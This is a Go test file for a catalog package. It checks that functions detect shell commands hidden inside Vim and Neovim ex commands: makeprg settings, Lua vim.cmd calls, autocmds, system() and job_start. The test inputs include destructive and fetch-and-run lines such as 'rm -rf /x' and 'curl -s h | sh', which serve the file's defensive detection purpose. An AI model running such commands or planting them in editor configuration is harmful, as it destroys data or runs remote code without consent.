package catalog

import "testing"

// TestExCommandsRunShell: an ex command behind modifiers, after a "|",
// :terminal, a file an embedded interpreter runs and the functions that
// start jobs run what they name.
func TestExCommandsRunShell(t *testing.T) {
	for _, c := range []struct {
		text, want string
		ok         bool
	}{
		{"sil! !make", "make", true},
		// the program makeprg or grepprg names, run by a later :make
		{`set makeprg=rm\ -rf\ /x`, "rm -rf /x", true},
		{`setlocal mp=curl\ -s\ h\ \|\ sh`, "curl -s h | sh", true},
		{`set nocompatible makeprg=make\ -j4`, "make -j4", true},
		{`let &makeprg = "rm -rf " . "/x"`, "rm -rf /x", true},
		{`let &l:grepprg="rg --vimgrep"`, "rg --vimgrep", true},
		{`set makeprg?`, "", false},
		// ex commands Lua hands the editor
		{`lua vim.cmd("!rm -rf /x")`, "rm -rf /x", true},
		{`lua vim.cmd [[!rm -rf /x]]`, "rm -rf /x", true},
		{`lua vim.api.nvim_command('!rm -rf /x')`, "rm -rf /x", true},
		{`lua vim.cmd("write")`, "", false},
		{`lua vim.cmd.make()`, "", false},
		{"sil !make", "make", true},
		{"unsilent !make", "make", true},
		{"keepalt !make", "make", true},
		{"verbose 9 !make", "make", true},
		{"set nomore | !make test", "make test", true},
		{"terminal make", "make", true},
		{"term ++close ++rows=5 make", "make", true},
		{"py3file /tmp/p.py", "python3 /tmp/p.py", true},
		{"luafile x.lua", "lua x.lua", true},
		{"so /tmp/p.vim", "vim -S /tmp/p.vim", true},
		{`let x = system("make")`, "make", true},
		{`echo system("make")`, "make", true},
		{`call job_start(["sh", "-c", "make"])`, `'sh' '-c' 'make'`, true},
		{`call term_start("make")`, "make", true},
		{"au VimEnter * silent !make", "make", true},
		{"autocmd! mygroup BufRead *.x ++once !make", "make", true},
		{`exe "!" . "make test"`, "make test", true},
		{`execute "silent !make"`, "make", true},
		{`exe "normal! :!make\<CR>"`, "make", true},
		{`call feedkeys(":!make\<CR>")`, "make", true},
		{"edit term://make test", "make test", true},
		{"sp term://~/src//make", "make", true},
		{"normal! gg=G", "", false},
		{"edit src/app.ts", "", false},
		{"set nu", "", false},
		{`%s/a|b/c/g`, "", false},
		{"wq", "", false},
	} {
		got, ok := PrefixedShell(c.text, "!")
		if got != c.want || ok != c.ok {
			t.Errorf("PrefixedShell(%q) = %q, %v; want %q, %v", c.text, got, ok, c.want, c.ok)
		}
	}
	for _, c := range []struct{ text, interp, code string }{
		{"noautocmd py3 print(1)", "python3", "print(1)"},
		{"set nomore | py3 print(1)", "python3", "print(1)"},
		{"luado print(line)", "lua", "print(line)"},
	} {
		interp, code, _ := PrefixedCode(c.text, "python3:py3,python3;lua:lua,luado")
		if interp != c.interp || code != c.code {
			t.Errorf("PrefixedCode(%q) = %q, %q; want %q, %q", c.text, interp, code, c.interp, c.code)
		}
	}
}
